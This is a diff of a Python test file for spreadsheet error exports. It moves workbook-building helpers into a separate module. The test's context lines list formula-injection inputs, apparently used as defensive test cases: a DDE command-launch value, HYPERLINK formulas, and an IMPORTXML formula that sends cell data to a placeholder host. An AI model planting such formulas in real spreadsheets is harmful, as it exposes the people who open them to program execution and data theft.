@@ -9,6 +9,7 @@ from pathlib import Path
 
 import openpyxl
 import pytest
+from books import book, saved
 
 import models
 from exports.errorrows import REASON, write_errors
@@ -30,26 +31,6 @@ PAYLOADS = [sign + rest for sign in ("=", "+", "-", "@", "\t=", "\r=", "|", "%",
             for rest in ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x","y")', "SUM(A1:A9)")] + [
     '=IMPORTXML(CONCAT("http://x?",A1),"//a")', "http://example.invalid", "mailto:x", "internal:A1", "{=1+1}", "1e9",
     "0012", "TRUE", "2021-08-01", "<b>&amp;</b>", "_x0041_", "\x01\x02", "'=1", "=", "＝1+1", "𬴂\u0301"]
-
-
-def book(*sheets, **set_on_book):
-    """An Excel workbook's bytes, as openpyxl makes it, from (title, rows) or rows."""
-    made = openpyxl.Workbook()
-    made.remove(made.active)
-    for number, sheet in enumerate(sheets):
-        title, rows = sheet if isinstance(sheet, tuple) else (f"表{number + 1}", sheet)
-        page = made.create_sheet(title)
-        for row in rows:
-            page.append(row)
-    for name, value in set_on_book.items():
-        setattr(made, name, value)
-    return saved(made)
-
-
-def saved(made):
-    out = io.BytesIO()
-    made.save(out)
-    return out.getvalue()
 
 
 def written(*sheets):
